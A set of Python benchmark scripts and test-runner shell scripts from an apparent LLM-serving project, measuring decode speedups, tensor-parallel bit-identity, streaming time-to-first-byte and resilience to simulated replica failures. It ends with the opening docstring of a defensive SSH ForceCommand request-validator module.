            outs[fast] = [e.requests[r].output for r in rids]
        assert outs[True] == outs[False], \
            f"{arch}: fast path changed greedy outputs!"
        rows.append({"scenario": "families", "config": f"identity_{arch}",
                     "sequences": len(prompts), "tokens_each": gen,
                     "outputs_bit_identical": True})

    # --- hybrid-family decode throughput: fast vs eager ---
    # jamba pairs paged attention pools with per-slot SSM state — the
    # family the old pool-only fast-path predicate excluded outright.
    # The pool is sized to memory (spare blocks are prefix-cache estate):
    # the eager loop's per-step pool copy scales with it, the jitted
    # donated path doesn't.
    cfg, params = build("jamba-1.5-large-398b")
    mlen, nblocks = 512, 2048
    warmup, steps, reps = (8, 30, 2) if tiny else (12, 80, 3)
    hybrid = {}
    for fast in (True, False):
        name = "fast" if fast else "eager"
        e = Engine(cfg, params, max_num_seqs=4, max_model_len=mlen,
                   block_size=16, num_blocks=nblocks, fast_path=fast)
        rs = np.random.RandomState(0)
        for _ in range(e.n_slots):
            e.submit(rs.randint(1, cfg.vocab_size, 32),
                     SamplingParams(max_new_tokens=mlen - 40))
        for _ in range(warmup):
            e.step()
        best = None
        for _ in range(reps):
            toks = 0
            t0 = time.perf_counter()
            for _ in range(steps):
                toks += e.step()
            rate = toks / (time.perf_counter() - t0)
            best = max(best or 0.0, rate)
        assert len(e.running) == e.n_slots
        hybrid[name] = round(best, 1)
        rows.append({"scenario": "families",
                     "config": f"hybrid_decode_{name}",
                     "arch": "jamba-1.5-large-398b",
                     "pool_blocks": nblocks,
                     "decode_tok_per_s": hybrid[name]})
    family_speedup = hybrid["fast"] / hybrid["eager"]
    assert family_speedup >= MIN_FAMILY_SPEEDUP, \
        f"hybrid-family fast path only {family_speedup:.2f}x the eager " \
        f"loop (need >= {MIN_FAMILY_SPEEDUP}x)"

    # --- quantized KV pools: resident-block gain + greedy proximity ---
    cfg, params = build("llama3.2-1b")
    base_bytes = _pool_block_bytes(
        _paged_cache_defs(cfg, 4, 128, 32, 16), jnp.bfloat16)
    rs = np.random.RandomState(0)
    prompts = [rs.randint(1, cfg.vocab_size, n) for n in (12, 29)]

    def greedy(kv_dtype):
        e = Engine(cfg, params, max_num_seqs=4, max_model_len=128,
                   block_size=16, kv_dtype=kv_dtype)
        rids = [e.submit(p, SamplingParams(max_new_tokens=gen))
                for p in prompts]
        while e.has_work():
            e.step()
        return [e.requests[r].output for r in rids]

    ref = greedy(None)
    quant_gain = {}
    for kd in ("fp8_e4m3", "int8"):
        qbytes = _pool_block_bytes(
            _paged_cache_defs(cfg, 4, 128, 32, 16, kv_dtype=kd),
            jnp.bfloat16)
        gain = base_bytes / qbytes
        quant_gain[kd] = gain
        assert gain >= MIN_KV_QUANT_GAIN, \
            f"{kd}: only {gain:.2f}x resident blocks " \
            f"(need >= {MIN_KV_QUANT_GAIN}x)"
        outs = greedy(kd)
        # common greedy prefix per sequence: random weights are the
        # quantization-hostile extreme (near-uniform logits), yet every
        # sequence must track bf16 for at least its opening tokens
        def common(a, b):
            n = 0
            for x, y in zip(a, b):
                if x != y:
                    break
                n += 1
            return n
        prefix = [common(a, b) for a, b in zip(ref, outs)]
        agree = sum(x == y for a, b in zip(ref, outs)
                    for x, y in zip(a, b))
        assert min(prefix) >= 1, (kd, prefix)
        rows.append({"scenario": "families", "config": f"kv_{kd}",
                     "block_bytes_bf16": base_bytes,
                     "block_bytes_quant": qbytes,
                     "resident_block_gain": round(gain, 2),
                     "greedy_common_prefix": prefix,
                     "greedy_agreement_pct": round(
                         100.0 * agree / sum(len(a) for a in ref), 1)})

    rows.append({"scenario": "families", "config": "summary",
                 "hybrid_decode_speedup": round(family_speedup, 2),
                 "kv_quant_gain_fp8": round(quant_gain["fp8_e4m3"], 2),
                 "kv_quant_gain_int8": round(quant_gain["int8"], 2),
                 "outputs_bit_identical": True})
    return rows


def run_tp(tiny: bool = False) -> list[dict]:
    """Tensor-parallel serving (DESIGN.md §Tensor-parallel serving):
    weights and paged KV pools shard over a ``tensor`` mesh while the
    token streams stay bit-identical to tp=1 — greedy AND seeded-sampled,
    under chunked prefill and preemption — and per-device resident KV
    drops to ~1/tp.  tp=4 on the reduced config (2 KV heads) also shows
    the head-replication rule: pools degrade to replicated, weights still
    shard, outputs still match.  Forces host devices when the process has
    too few (the ``serve.py --tp`` pattern) — only possible before jax
    initializes, so this scenario must be the run's first jax user."""
    import os
    import sys

    tps = (1, 2) if tiny else (1, 2, 4)
    if "jax" not in sys.modules and "host_platform_device_count" not in \
            os.environ.get("XLA_FLAGS", ""):
        os.environ["XLA_FLAGS"] = (
            os.environ.get("XLA_FLAGS", "")
            + f" --xla_force_host_platform_device_count={max(tps)}"
        ).strip()
    import jax

    from repro.configs import get_config, reduced
    from repro.launch.mesh import make_tp_mesh
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.serving.engine import Engine
    from repro.serving.sampling import SamplingParams

    if len(jax.devices()) < max(tps):
        raise SystemExit(
            f"--scenario tp needs {max(tps)} devices; set XLA_FLAGS="
            f"--xla_force_host_platform_device_count={max(tps)}")

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    gens = (24, 20, 16) if tiny else (64, 48, 40)

    def drive(tp):
        mesh = make_tp_mesh(tp) if tp > 1 else None
        e = Engine(cfg, params, max_num_seqs=3, max_model_len=256,
                   block_size=8, num_blocks=24 if tiny else 48,
                   prefill_chunk_size=8, mesh=mesh,
                   tp=tp if tp > 1 else None)
        rids = [
            e.submit(np.arange(1, 30),
                     SamplingParams(max_new_tokens=gens[0])),
            e.submit(np.arange(40, 60),
                     SamplingParams(max_new_tokens=gens[1],
                                    temperature=0.9, top_k=12,
                                    top_p=0.85, seed=11)),
            e.submit(np.arange(70, 95),
                     SamplingParams(max_new_tokens=gens[2],
                                    temperature=0.7, seed=3)),
        ]
        t0 = time.perf_counter()
        steps = 0
        while e.has_work():
            e.step()
            steps += 1
            assert steps < 20000
        dt = time.perf_counter() - t0
        e.bm.check_invariants()
        outs = [e.requests[r].output for r in rids]
        assert [len(o) for o in outs] == list(gens)
        dev0 = jax.devices()[0]
        resident = sum(
            sh.data.nbytes for leaf in jax.tree.leaves(e.cache)
            for sh in leaf.addressable_shards if sh.device == dev0)
        caps = e.capabilities()
        row = {"scenario": "tp", "config": f"tp{tp}", "tp": tp,
               "decode_tok_per_s": round(e.decode_tokens / dt, 1),
               "resident_kv_bytes_dev0": int(resident),
               "kv_block_bytes": e.kv_block_bytes(),
               "sharded_leaves": sorted(
                   l["path"] for l in caps["leaves"] if l["shards"] > 1),
               "compile_counts": e.compile_counts()}
        return outs, row

    base_outs, base = drive(1)
    rows = [base]
    for tp in tps[1:]:
        outs, row = drive(tp)
        assert outs == base_outs, \
            f"tp={tp} changed the token streams — geometry leaked into " \
            "the sampled bits"
        assert row["compile_counts"] == base["compile_counts"], \
            f"tp={tp} retraced outside the tp=1 bucket grid"
        rows.append(row)

    tp2 = next(r for r in rows if r["tp"] == 2)
    ratio = tp2["resident_kv_bytes_dev0"] / base["resident_kv_bytes_dev0"]
    assert ratio <= MAX_TP_KV_RATIO, \
        f"per-device resident KV at tp=2 is {ratio:.2f}x of tp=1 " \
        f"(need <= {MAX_TP_KV_RATIO})"
    assert tp2["sharded_leaves"], "tp=2 must shard the paged pools"
    rows.append({"scenario": "tp", "config": "summary",
                 "tp_degrees": list(tps),
                 "kv_per_device_ratio_tp2": round(ratio, 3),
                 "outputs_bit_identical": True})
    return rows


def run(tiny: bool = False) -> list[dict]:
    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))

    # pool sized the way a production deployment sizes it — to memory, not
    # to the live batch (spare blocks are the prefix cache's LRU estate).
    # The eager loop's per-step cost scales with this; the hot path's
    # doesn't, which is exactly what the bench demonstrates.
    mlen = 512
    nblocks = 512 if tiny else 1024
    warmup, steps, reps = (10, 40, 2) if tiny else (12, 120, 3)

    rows = []
    decode = {}
    for fast in (True, False):
        name = "fast" if fast else "eager"
        decode[name] = _bench_decode(cfg, params, fast, mlen=mlen,
                                     nblocks=nblocks, warmup=warmup,
                                     steps=steps, reps=reps)
        rows.append({"scenario": "decode", "config": name,
                     **decode[name]})
    speedup = decode["fast"]["decode_tok_per_s"] / \
        decode["eager"]["decode_tok_per_s"]
    assert speedup >= MIN_DECODE_SPEEDUP, \
        f"hot path only {speedup:.2f}x faster than the eager loop " \
        f"(need >= {MIN_DECODE_SPEEDUP}x)"

    ttft = {}
    pf = dict(mlen=mlen, nblocks=nblocks,
              prefix_len=128 if tiny else 256,
              n_req=4 if tiny else 8, chunk=64)
    for fast in (True, False):
        name = "fast" if fast else "eager"
        ttft[name] = _bench_prefill_ttft(cfg, params, fast, **pf)
        outs = ttft[name].pop("outputs")
        rows.append({"scenario": "prefill_ttft", "config": name,
                     **ttft[name]})
        ttft[name]["outputs"] = outs
    assert ttft["fast"]["outputs"] == ttft["eager"]["outputs"], \
        "hot path changed greedy outputs!"

    cc = _compile_counts(cfg, params, mlen=mlen, nblocks=nblocks, chunk=64)
    rows.append({"scenario": "compile_count", "config": "fast", **cc})
    rows.append({"scenario": "summary", "config": "fast_vs_eager",
                 "decode_speedup": round(speedup, 2),
                 "outputs_bit_identical": True})
    return rows


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--tiny", action="store_true",
                   help="CI smoke shape: smaller pool, fewer steps")
    p.add_argument("--scenario", default="hotpath",
                   choices=("hotpath", "pressure", "fork", "spec",
                            "families", "tp"),
                   help="hotpath: jitted vs eager step loop (default); "
                        "pressure: swap vs recompute preemption under "
                        "an undersized block pool; fork: n=4 parallel "
                        "sampling (one shared prefill) vs 4 independent "
                        "requests; spec: self-speculative multi-token "
                        "decoding vs the plain fast path on "
                        "repetitive-document traffic; families: the "
                        "cache contract beyond pure GQA — per-family "
                        "fast-vs-eager identity + throughput and "
                        "quantized-KV resident-block gain; tp: tensor-"
                        "parallel serving — bit-identity vs tp=1 and "
                        "per-device resident-KV savings over a forced-"
                        "host-device mesh")
    p.add_argument("--json", default=None, metavar="PATH",
                   help="dump rows as JSON (the CI build artifact)")
    args = p.parse_args()
    rows = {"pressure": run_pressure, "fork": run_fork,
            "spec": run_spec, "families": run_families,
            "tp": run_tp, "hotpath": run}[args.scenario](tiny=args.tiny)
    for row in rows:
        print(row)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
