"""Resilience benchmark (ISSUE 8): replica death and walltime expiry under
live traffic, driven by the declarative fault harness (core/faults.py).

Scenario ``kill`` — a warm multi-replica fleet serving shared-prefix
streams; a node is killed mid-generation.  Measures request success rate
(must be 1.0: every request settles 200 after migration), duplicate /
missing streamed tokens (must be 0: each client's chunk sequence is
exactly the expected token range once), and the recomputed-prefill
saving: migrated re-dispatches carry their prompt plus the already
emitted tokens, so the survivor's prefill is mostly prefix-cache hits
(``migrated_prefill_cached_pct``, gated ≥ 50%).

Scenario ``drain`` — a service with a drain horizon crossing its Slurm
walltime: replicas drain ahead of expiry, a replacement is pre-warmed,
short requests never notice and the one straggler stream migrates.
Success rate must be 1.0 with zero duplicate tokens.

    PYTHONPATH=src python -m benchmarks.resilience_bench
    PYTHONPATH=src python -m benchmarks.resilience_bench \
        --tiny --json BENCH_resilience.json       # the CI smoke run
    PYTHONPATH=src python -m benchmarks.run --only resilience
"""
from __future__ import annotations

import argparse
import json


SHARED_PREFIX_TOKENS = 480           # 30 blocks of 16: the system prompt
BLOCK = 16


def _fleet(n_replicas: int, **spec_kw):
    from repro.core.scheduler import ServiceSpec
    from repro.core.service import ChatAI

    spec_kw.setdefault("time_limit", 8 * 3600.0)
    services = [ServiceSpec(
        name="llama", arch="llama3.2-1b", load_time=25.0,
        gpus_per_instance=4, min_instances=n_replicas,
        max_instances=n_replicas + 1, **spec_kw)]
    chat = ChatAI.build_sim(services=services, rate_limit=10**6)
    chat.warm_up()
    return chat


def _open(chat, i: int, max_tokens: int, stream: bool = True):
    """One request through the gateway with an explicit shared-prefix
    token chain (the measurement needs chain length == prompt_tokens)."""
    ids = list(range(1, SHARED_PREFIX_TOKENS + 1)) + [10_000 + i, 20_000 + i]
    body = json.dumps({"prompt_ids": ids, "prompt_tokens": len(ids),
                       "max_tokens": max_tokens}).encode()
    r = chat.gateway.handle(method="POST", path="/v1/chat/completions",
                            model="llama", body=body,
                            user_id=f"bench-{i}@local", stream=stream)
    assert r.status == 200, r.body
    rec = {"chunks": [], "resp": None}

    def hook(v):
        if hasattr(v, "on_chunk"):
            v.on_chunk(rec["chunks"].append)
            v.on_done(lambda x: rec.__setitem__("resp", x))
        else:
            rec["resp"] = v
    r.deferred.on_done(hook)
    return rec


def _prefill_totals(backends) -> tuple[int, int]:
    cached = computed = 0
    for be in backends:
        cached += getattr(be, "prefill_tokens_cached", 0)
        computed += getattr(be, "prefill_tokens_computed", 0)
    return cached, computed


def _audit(recs, max_tokens: int) -> tuple[int, int, int]:
    """(successes, duplicate_tokens, missing_tokens) over streamed recs:
    each client must have received token ids 0..max_tokens-1 exactly
    once, in order."""
    ok = dup = missing = 0
    want = list(range(max_tokens))
    for rec in recs:
        resp = rec["resp"]
        if resp is None or getattr(resp, "status", None) != 200:
            continue
        ok += 1
        got = [c[0] for c in rec["chunks"]]
        seen = set()
        for t in got:
            if t in seen:
                dup += 1
            seen.add(t)
        missing += len(set(want) - seen)
    return ok, dup, missing


def run_kill(tiny: bool = False) -> list[dict]:
    from repro.core.faults import FaultEvent, FaultInjector

    n_replicas = 3
    n_warm = 6 if tiny else 24
    n_streams = 8 if tiny else 32
    max_tokens = 40 if tiny else 80
    chat = _fleet(n_replicas)
    fi = FaultInjector(chat.clock, chat.slurm, chat.proxy.link)

    # --- warm every replica's prefix cache with the shared prefix ---
    warm = [_open(chat, i, max_tokens=4, stream=False)
            for i in range(n_warm)]
    chat.clock.run_for(60)
    assert all(w["resp"].status == 200 for w in warm)
    warmed = sum(1 for inst in chat.scheduler.registry.all()
                 if len(inst.backend.cached_block_keys())
                 >= SHARED_PREFIX_TOKENS // BLOCK)
    assert warmed == n_replicas, f"only {warmed}/{n_replicas} warm"
    chat.clock.run_for(10)         # next tick publishes the warm keys

    # --- open the streams and let every prefill land pre-fault ---
    recs = [_open(chat, n_warm + i, max_tokens) for i in range(n_streams)]
    chat.clock.run_for(0.8)        # all dispatched, mid-generation
    busy = [i for i in chat.scheduler.registry.all() if i.active > 0]
    victim = max(busy, key=lambda i: i.active)
    migrating = victim.active
    # the migrated re-prefills land on the survivors; diffing only their
    # counters isolates the migration's cache hit rate (the victim's
    # counters die with it)
    survivors = [i.backend for i in chat.scheduler.registry.all()
                 if i is not victim]
    cached0, computed0 = _prefill_totals(survivors)
    snap0 = chat.metrics.snapshot()

    fi.arm([FaultEvent(at_s=chat.clock.now(), kind="node_kill",
                       node=victim.job.node)])
    chat.clock.run_for(120)

    ok, dup, missing = _audit(recs, max_tokens)
    cached1, computed1 = _prefill_totals(survivors)
    snap1 = chat.metrics.snapshot()
    d_cached, d_computed = cached1 - cached0, computed1 - computed0
    # only the migrated re-dispatches prefilled inside the fault window,
    # so the counter delta isolates their cache hit rate
    cached_pct = 100.0 * d_cached / max(d_cached + d_computed, 1)
    migrated = (snap1["counters"].get("requests_migrated_streams", 0)
                - snap0["counters"].get("requests_migrated_streams", 0))
    rows = [{
        "scenario": "kill",
        "n_streams": n_streams,
        "replicas": n_replicas,
        "killed_inflight": migrating,
        "migrated_streams": int(migrated),
        "success_rate": round(ok / n_streams, 4),
        "duplicate_tokens": dup,
        "missing_tokens": missing,
        "migrated_prefill_cached_pct": round(cached_pct, 1),
    }]
    assert ok == n_streams, f"lost requests: {ok}/{n_streams}"
    assert dup == 0 and missing == 0, rows
    assert migrated == migrating > 0, rows
    assert cached_pct >= 50.0, \
        f"migrated prefills mostly recomputed: {cached_pct:.1f}%"
    return rows


def run_drain(tiny: bool = False) -> list[dict]:
    n_short = 6 if tiny else 14
    chat = _fleet(1, time_limit=400.0, drain_horizon_s=120.0)

    chat.clock.run_for(240)        # approach the drain horizon
    # a straggler stream that will still be generating at the walltime
    long_tokens = 4000
    long_rec = _open(chat, 999, long_tokens)
    finals = []
    while chat.clock.now() < 460:  # short requests across the expiry
        finals.append(_open(chat, len(finals), max_tokens=8,
                            stream=False))
        chat.clock.run_for(220.0 / n_short)
    chat.clock.run_for(300)

    ok_short = sum(1 for f in finals if f["resp"] is not None
                   and f["resp"].status == 200)
    ok_long, dup, missing = _audit([long_rec], long_tokens)
    n_total = len(finals) + 1
    rows = [{
        "scenario": "drain",
        "n_requests": n_total,
        "drains": int(chat.metrics.counter("instances_draining").value),
        "migrated_streams": int(chat.metrics.counter(
            "requests_migrated_streams").value),
        "success_rate": round((ok_short + ok_long) / n_total, 4),
        "duplicate_tokens": dup,
        "missing_tokens": missing,
    }]
    assert ok_short == len(finals), f"{ok_short}/{len(finals)} short ok"
    assert ok_long == 1 and dup == 0 and missing == 0, rows
    assert rows[0]["drains"] >= 1, "drain never triggered"
    return rows


def run() -> list[dict]:
    return run_kill() + run_drain()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--scenario", choices=("kill", "drain", "all"),
                   default="all")
    p.add_argument("--tiny", action="store_true",
                   help="CI smoke shape: small fleet, short generations")
    p.add_argument("--json", default=None, metavar="PATH",
                   help="also dump rows as JSON (the CI build artifact)")
    args = p.parse_args()
    rows = []
    if args.scenario in ("kill", "all"):
        rows += run_kill(tiny=args.tiny)
    if args.scenario in ("drain", "all"):
        rows += run_drain(tiny=args.tiny)
    for row in rows:
        print(row)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
