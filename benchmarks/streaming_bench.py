"""Streaming benchmarks: time-to-first-byte with end-to-end token
streaming vs blocking completions, plus disconnect-cancel block reclaim.

Scenario ``fleet`` — the paper's deployment shape at fleet scale: a
ChatAI sim (gateway → proxy → cloud script → instances) with the
calibrated ``LatencyModelBackend``, thousands of concurrent streams.
With ``stream=True`` the client's first byte arrives at first-token
latency (plus queueing); blocking clients wait for the whole generation.
The headline number is ``ttfb_improvement_pct``.

Scenario ``engine`` — the real JAX engine behind the cooperative
``JaxEngineBackend`` on a sim clock: streamed vs blocking TTFB (sim
time, deterministic), and the disconnect-cancel contract: aborting a
stream mid-generation must return the group's KV blocks to the pool
(``abort_reclaims_blocks``).

    PYTHONPATH=src python -m benchmarks.streaming_bench
    PYTHONPATH=src python -m benchmarks.streaming_bench \
        --tiny --json BENCH_streaming.json        # the CI smoke run
    PYTHONPATH=src python -m benchmarks.run --only streaming
"""
from __future__ import annotations

import argparse
import json
import time


def _p95(xs: list) -> float:
    xs = sorted(xs)
    return xs[min(len(xs) - 1, int(0.95 * len(xs)))]


def run_fleet(tiny: bool = False) -> list[dict]:
    from repro.core.scheduler import ServiceSpec
    from repro.core.service import ChatAI

    n_users = 30 if tiny else 200
    per_user = 5 if tiny else 10
    n_req = n_users * per_user            # 150 tiny / 2000 full streams
    max_tokens = 32 if tiny else 64
    # size the fleet to the offered load (64-slot instances): the bench
    # measures streaming's first-byte win, not queueing delay — a starved
    # fleet would add the same queue wait to both configs and dilute it
    n_inst = 4 if tiny else 32

    def drive(stream: bool) -> dict:
        services = [ServiceSpec(
            name="llama", arch="llama3.2-1b", load_time=30.0,
            gpus_per_instance=1, min_instances=n_inst,
            max_instances=n_inst)]
        chat = ChatAI.build_sim(services=services, rate_limit=10**6)
        chat.warm_up()
        keys = [chat.issue_api_key(f"tenant-{u}@bench")
                for u in range(n_users)]
        t0 = chat.clock.now()
        ttfb: dict[int, float] = {}
        done_t: dict[int, float] = {}
        wall0 = time.monotonic()
        for i in range(n_req):
            r = chat.chat(api_key=keys[i % n_users], model="llama",
                          messages=[{"role": "user",
                                     "content": f"bench request {i}"}],
                          max_tokens=max_tokens, stream=stream)
            assert r.status == 200, r.body

            def hook(v, i=i):
                if hasattr(v, "on_chunk"):     # live stream
                    v.on_chunk(lambda _c, i=i: ttfb.setdefault(
                        i, chat.clock.now() - t0))
                    v.on_done(lambda _r, i=i: done_t.setdefault(
                        i, chat.clock.now() - t0))
                else:                          # blocking Response
                    ttfb.setdefault(i, chat.clock.now() - t0)
                    done_t.setdefault(i, chat.clock.now() - t0)
            r.deferred.on_done(hook)
        chat.clock.run_for(7200)
        wall = time.monotonic() - wall0
        assert len(done_t) == n_req, \
            f"only {len(done_t)}/{n_req} completed"
        tt = list(ttfb.values())
        return {
            "scenario": "fleet",
            "config": "streamed" if stream else "blocking",
            "n_streams": n_req,
            "ttfb_mean_s": round(sum(tt) / len(tt), 4),
            "ttfb_p95_s": round(_p95(tt), 4),
            "done_mean_s": round(sum(done_t.values()) / n_req, 4),
            "wall_s": round(wall, 2),
        }

    rows = [drive(stream=True), drive(stream=False)]
    st = next(r for r in rows if r["config"] == "streamed")
    bl = next(r for r in rows if r["config"] == "blocking")
    imp = 100.0 * (1 - st["ttfb_mean_s"] / bl["ttfb_mean_s"])
    rows.append({
        "scenario": "fleet", "config": "summary",
        "ttfb_improvement_pct": round(imp, 1),
    })
    assert imp > 0, f"streaming did not improve TTFB: {rows}"
    if not tiny:
        # at 64 tokens the blocking client waits the whole generation;
        # streaming must cut mean TTFB by well over half
        assert imp >= 50, f"streaming TTFB win too small: {imp:.1f}%"
    return rows


def run_engine(tiny: bool = False) -> list[dict]:
    from types import SimpleNamespace

    import jax

    from repro.configs import get_config, reduced
    from repro.models import param_defs
    from repro.models.params import materialize
    from repro.core.deferred import Stream
    from repro.serving.engine import Engine
    from repro.slurmlite.clock import SimClock
    from repro.slurmlite.instances import JaxEngineBackend, Request

    cfg = reduced(get_config("llama3.2-1b"))
    params = materialize(param_defs(cfg), jax.random.key(0))
    n_req = 2 if tiny else 4
    max_new = 12 if tiny else 24
    max_len = 96

    def mk():
        e = Engine(cfg, params, max_num_seqs=4, max_model_len=max_len,
                   block_size=8, enable_prefix_caching=False)
        clock = SimClock()
        return e, JaxEngineBackend(e), SimpleNamespace(clock=clock,
                                                       active=0), clock

    def submit(be, inst, i, stream, on_chunk, done):
        return be.infer(inst, Request(
            request_id=i, model="m", prompt_tokens=16, max_new_tokens=max_new,
            stream=stream, payload={"prompt_ids": list(range(1, 17))}),
            done, on_chunk=on_chunk)

    def drive(stream: bool) -> dict:
        _, be, inst, clock = mk()
        t0 = clock.now()
        ttfb: dict[int, float] = {}
        done_t: dict[int, float] = {}
        for i in range(n_req):
            s = None
            if stream:
                s = Stream()
                s.on_chunk(lambda _c, i=i: ttfb.setdefault(
                    i, clock.now() - t0))
            submit(be, inst, i, stream, s,
                   lambda _r, i=i: (ttfb.setdefault(i, clock.now() - t0),
                                    done_t.setdefault(i, clock.now() - t0)))
        clock.run_for(600)
        assert len(done_t) == n_req
        tt = list(ttfb.values())
        return {
            "scenario": "engine",
            "config": "streamed" if stream else "blocking",
            "n_streams": n_req,
            "ttfb_mean_s": round(sum(tt) / len(tt), 4),
            "done_mean_s": round(sum(done_t.values()) / n_req, 4),
        }

    rows = [drive(stream=True), drive(stream=False)]
    st = next(r for r in rows if r["config"] == "streamed")
    bl = next(r for r in rows if r["config"] == "blocking")
    imp = 100.0 * (1 - st["ttfb_mean_s"] / bl["ttfb_mean_s"])

    # disconnect-cancel: abort a stream mid-generation, blocks come back
    e, be, inst, clock = mk()
    free0 = e.bm.free_blocks
    out: dict = {}
    s = Stream()
    chunks: list = []
    s.on_chunk(chunks.append)
    cancel = submit(be, inst, 99, True, s,
                    lambda r: out.setdefault("r", r))
    clock.run_for(0.05)               # a few tokens out, far from done
    held = free0 - e.bm.free_blocks
    assert held > 0 and 0 < len(chunks) < max_new
    cancel()
    reclaims = (e.bm.free_blocks == free0 and out["r"].status == 499)
    rows.append({
        "scenario": "engine", "config": "summary",
        "ttfb_improvement_pct": round(imp, 1),
        "abort_freed_blocks": int(held),
        "abort_chunks_before_cancel": len(chunks),
        "abort_reclaims_blocks": bool(reclaims),
    })
    assert imp > 0, f"engine streaming did not improve TTFB: {rows}"
    assert reclaims, "abort did not reclaim the stream's KV blocks"
    return rows


def run() -> list[dict]:
    return run_fleet() + run_engine()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--scenario", choices=("fleet", "engine", "all"),
                   default="all")
    p.add_argument("--tiny", action="store_true",
                   help="CI smoke shape: 150 streams, short generations")
    p.add_argument("--json", default=None, metavar="PATH",
                   help="also dump rows as JSON (the CI build artifact)")
    args = p.parse_args()
    rows = []
    if args.scenario in ("fleet", "all"):
        rows += run_fleet(tiny=args.tiny)
    if args.scenario in ("engine", "all"):
        rows += run_engine(tiny=args.tiny)
    for row in rows:
        print(row)
    if args.json:
        with open(args.json, "w") as f:
            json.dump(rows, f, indent=1)


if __name__ == "__main__":
    main()
