"""Benchmark harness — one module per paper table/figure.

    PYTHONPATH=src python -m benchmarks.run [--only table1,table2,figs,kernel]

Prints one CSV block per benchmark (name, measured, paper reference where
the paper gives one) and exits non-zero if any benchmark raises.
"""
from __future__ import annotations

import argparse
import sys


def _emit(rows: list[dict]) -> None:
    if not rows:
        return
    cols = list(rows[0].keys())
    print(",".join(cols))
    for r in rows:
        print(",".join(str(r.get(c, "")) for c in cols))
    print()


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("--only", default=None,
                   help="comma list: table1,table2,figs,kernel,"
                        "prefix_cache,routing,engine_step,engine_pressure,"
                        "engine_fork,engine_spec,streaming,resilience")
    args = p.parse_args()
    want = set(args.only.split(",")) if args.only else None

    benches = []
    if want is None or "table1" in want:
        from benchmarks.table1_latency import run as t1
        benches.append(("table1", t1))
    if want is None or "table2" in want:
        from benchmarks.table2_throughput import run as t2
        benches.append(("table2", t2))
    if want is None or "figs" in want:
        from benchmarks.figs_adoption import run as fa
        benches.append(("figs", fa))
    if want is None or "kernel" in want:
        from benchmarks.kernel_cycles import run as kc
        benches.append(("kernel", kc))
    if want is None or "prefix_cache" in want:
        from benchmarks.prefix_cache_bench import run as pc
        benches.append(("prefix_cache", pc))
    if want is None or "routing" in want:
        from benchmarks.prefix_cache_bench import run_multi as rm
        benches.append(("routing", rm))
    if want is None or "engine_step" in want:
        from benchmarks.engine_step_bench import run as es
        benches.append(("engine_step", es))
    if want is None or "engine_pressure" in want:
        from benchmarks.engine_step_bench import run_pressure as ep
        benches.append(("engine_pressure", ep))
    if want is None or "engine_fork" in want:
        from benchmarks.engine_step_bench import run_fork as ef
        benches.append(("engine_fork", ef))
    if want is None or "engine_spec" in want:
        from benchmarks.engine_step_bench import run_spec as esp
        benches.append(("engine_spec", esp))
    if want is None or "streaming" in want:
        from benchmarks.streaming_bench import run as sb
        benches.append(("streaming", sb))
    if want is None or "resilience" in want:
        from benchmarks.resilience_bench import run as rb
        benches.append(("resilience", rb))

    failed = []
    for name, fn in benches:
        print(f"# === {name} ===")
        try:
            _emit(fn())
        except Exception as e:   # noqa: BLE001 — report and continue
            failed.append(name)
            print(f"ERROR in {name}: {type(e).__name__}: {e}\n")
    if failed:
        print(f"FAILED: {failed}")
        sys.exit(1)


if __name__ == "__main__":
    main()
