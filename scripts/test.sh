#!/usr/bin/env bash
# Test tiers (wraps the Makefile targets for environments without make).
#   scripts/test.sh          -> tier-1: full suite, stop on first failure
#   scripts/test.sh fast     -> skip @pytest.mark.slow tests
#   scripts/test.sh prefix   -> prefix-cache / chunked-prefill surface
#   scripts/test.sh routing  -> routing / prefix-index / scheduler surface
#   scripts/test.sh full     -> everything, no fail-fast (the nightly CI job)
#
# -euo pipefail: a collection error, a missing interpreter, or a failure
# anywhere in a pipeline must fail the script — CI treats this exit code
# as the verdict, so nothing may pass silently.
set -euo pipefail
cd "$(dirname "$0")/.."
export PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"

case "${1:-tier1}" in
  fast)    exec python -m pytest -m "not slow" -q ;;
  prefix)  exec python -m pytest tests/test_kv_cache.py \
                tests/test_prefix_cache.py tests/test_prefix_keys.py \
                tests/test_chunked_prefill.py tests/test_engine.py -q ;;
  routing) exec python -m pytest tests/test_routing.py \
                tests/test_prefix_index.py tests/test_cache_routing.py \
                tests/test_scheduler.py -q ;;
  full)    exec python -m pytest -q ;;
  *)       exec python -m pytest -x -q ;;
esac
