#!/usr/bin/env sh
# Test tiers (wraps the Makefile targets for environments without make).
#   scripts/test.sh          -> tier-1: full suite, stop on first failure
#   scripts/test.sh fast     -> skip @pytest.mark.slow tests
#   scripts/test.sh prefix   -> prefix-cache / chunked-prefill surface
set -e
cd "$(dirname "$0")/.."
export PYTHONPATH="src${PYTHONPATH:+:$PYTHONPATH}"

case "${1:-tier1}" in
  fast)   exec python -m pytest -m "not slow" -q ;;
  prefix) exec python -m pytest tests/test_kv_cache.py \
               tests/test_prefix_cache.py tests/test_chunked_prefill.py \
               tests/test_engine.py -q ;;
  *)      exec python -m pytest -x -q ;;
esac
