"""SSH ForceCommand circuit breaker (paper §5.4, §6.1.2).

The web server's SSH key maps — via the ``authorized_keys`` ForceCommand
directive of a *functional account* — to exactly one entrypoint: the cloud
interface script.  Whatever command the (possibly compromised) client asks
for is discarded; only the forced command runs, with the client's requested
command exposed solely through ``SSH_ORIGINAL_COMMAND`` as inert data.

``ForceCommandBoundary`` reproduces that contract as a process-boundary
object, and ``validate_request`` is the defensive parser the paper calls out
(whitelisted routes, no shell metacharacters, no eval, size caps).
"""
from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Callable, Optional

MAX_ARG_BYTES = 8192
MAX_BODY_BYTES = 4 * 1024 * 1024

# the preset of determined paths (paper §6.1.2)
ALLOWED_ROUTES = re.compile(
